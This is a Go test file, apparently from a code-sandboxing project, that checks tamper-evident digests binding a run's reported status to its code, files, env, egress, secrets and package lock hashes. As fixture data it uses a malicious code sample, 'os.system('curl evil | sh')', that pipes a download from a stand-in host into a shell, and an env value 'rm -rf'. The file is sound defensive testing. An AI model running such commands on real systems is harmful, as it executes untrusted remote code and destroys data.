package contract

import (
	"strings"
	"testing"
	"time"

	"github.com/sandboxflow/sandboxflow/guard"
)

// What a workflow worker that is not sandboxflow's can put in a status, against the request the
// server recorded when the run started: only a status whose digest is the digest of what it
// shows, with the started request's files and env, is accepted.
func TestShownCheckedAcceptsOnlyWhatItHashes(t *testing.T) {
	req := guard.Request{
		Code: "import os\nprint(os.environ['GREETING'])",
		Settings: guard.Settings{
			Files:   map[string][]byte{"b.txt": []byte("bee"), "a.csv": []byte("1,2\n")},
			Env:     map[string]string{"GREETING": "hello", "MODE": "fast"},
			Egress:  []string{"pypi.org"},
			Secrets: []string{"token-b", "token-a"},
			Limits:  guard.Limits{Timeout: 20 * time.Second},
		},
	}
	policy := guard.Policy{EgressAllow: []string{"pypi.org"}, SecretNames: []string{"token-a", "token-b"}}
	checked, err := policy.Check(req, "docker")
	if err != nil {
		t.Fatal(err)
	}
	honest := checked.Summary()
	if got, err := ShownChecked(honest, req); err != nil || got.Digest != checked.Digest {
		t.Fatalf("honest status: %v, digest %s; want accepted with %s", err, got.Digest, checked.Digest)
	}
	evil := req
	evil.Code = "import os; os.system('curl evil | sh')"
	evilChecked, err := policy.Check(evil, "docker")
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		sum  func(s *guard.Summary)
		req  func(r *guard.Request)
		want string
	}{
		{"benign code under the digest of other code", func(s *guard.Summary) { s.Digest = evilChecked.Digest }, nil, "is not the digest of what it shows"},
		{"benign code while other code was started", nil, func(r *guard.Request) { r.Code = evil.Code }, "differ in their code"},
		{"other limits than hashed", func(s *guard.Summary) { s.Limits.Timeout = time.Second }, nil, "is not the digest"},
		{"other backend than hashed", func(s *guard.Summary) { s.Backend = "local" }, nil, "is not the digest"},
		{"other egress than hashed", func(s *guard.Summary) { s.Egress = []string{"example.com"} }, nil, "is not the digest"},
		{"egress that does not parse", func(s *guard.Summary) { s.Egress = []string{"http://x/"} }, nil, "does not parse"},
		{"a file hidden", func(s *guard.Summary) { s.Files = s.Files[:1] }, nil, "input files"},
		{"a file's size understated", func(s *guard.Summary) { s.Files[0].Size = 1 }, nil, "input files"},
		{"a file added after the status", nil, func(r *guard.Request) {
			r.Files = map[string][]byte{"a.csv": []byte("1,2\n"), "b.txt": []byte("bee"), "c.py": nil}
		}, "input files"},
		{"an env var hidden", func(s *guard.Summary) { s.EnvNames = []string{"GREETING"} }, nil, "env names"},
		{"another env value than hashed", nil, func(r *guard.Request) { r.Env = map[string]string{"GREETING": "rm -rf", "MODE": "fast"} }, "is not the digest"},
		{"another language", func(s *guard.Summary) { s.Language = guard.Shell }, nil, "differ in their language"},
		{"network hidden", nil, func(r *guard.Request) { r.Network = true }, "differ in their network"},
		{"a secret hidden", func(s *guard.Summary) { s.Secrets = []string{"token-a"} }, nil, "differ in their secrets"},
		{"no checked request", func(s *guard.Summary) { *s = guard.Summary{} }, nil, "shows no checked request"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			sum := checked.Summary()
			sum.Files = append([]guard.FileSummary(nil), sum.Files...)
			r := req
			if tc.sum != nil {
				tc.sum(&sum)
			}
			if tc.req != nil {
				tc.req(&r)
			}
			_, err := ShownChecked(sum, r)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("ShownChecked: %v; want an error saying %q", err, tc.want)
			}
		})
	}
}

// A run with packages: the status must show the lock the run was started with, package by
// package and hash by hash; a status that hides a package, or shows the approved lock while the
// digest names one whose hash changed, is refused before a reviewer signs.
func TestShownCheckedBindsPackages(t *testing.T) {
	hashA, hashB := "sha256:"+strings.Repeat("a", 64), "sha256:"+strings.Repeat("b", 64)
	lock := "numpy==2.1.0 --hash=" + hashA + "\nplotlib==1.0 --hash=" + hashB + "\n"
	req := guard.Request{Code: "import numpy", Settings: guard.Settings{Packages: lock}}
	policy := guard.Policy{Packages: true}
	checked, err := policy.Check(req, "docker")
	if err != nil {
		t.Fatal(err)
	}
	if got, err := ShownChecked(checked.Summary(), req); err != nil || got.Digest != checked.Digest || len(got.Packages) != 2 {
		t.Fatalf("honest status with packages: %v, %+v; want accepted with digest %s", err, got.Packages, checked.Digest)
	}
	swapped := req
	swapped.Packages = "numpy==2.1.0 --hash=" + hashB + "\nplotlib==1.0 --hash=" + hashB + "\n"
	swappedChecked, err := policy.Check(swapped, "docker")
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		sum  func(s *guard.Summary)
		req  func(r *guard.Request)
		want string
	}{
		"a package hidden": {func(s *guard.Summary) { s.Packages = s.Packages[1:] }, nil, "differ in their packages"},
		"another hash shown": {func(s *guard.Summary) {
			s.Packages = []guard.Package{{Name: "numpy", Version: "2.1.0", Hashes: []string{hashB}}, s.Packages[1]}
		}, nil, "differ in their packages"},
		"the approved lock shown, another started":   {nil, func(r *guard.Request) { r.Packages = swapped.Packages }, "differ in their packages"},
		"the shown lock under the digest of another": {func(s *guard.Summary) { s.Digest = swappedChecked.Digest }, nil, "is not the digest of what it shows"},
		"packages shown for a run without":           {nil, func(r *guard.Request) { r.Packages = "" }, "differ in their packages"},
	} {
		sum := checked.Summary()
		r := req
		if tc.sum != nil {
			tc.sum(&sum)
		}
		if tc.req != nil {
			tc.req(&r)
		}
		if _, err := ShownChecked(sum, r); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: ShownChecked: %v; want an error saying %q", name, err, tc.want)
		}
	}
}
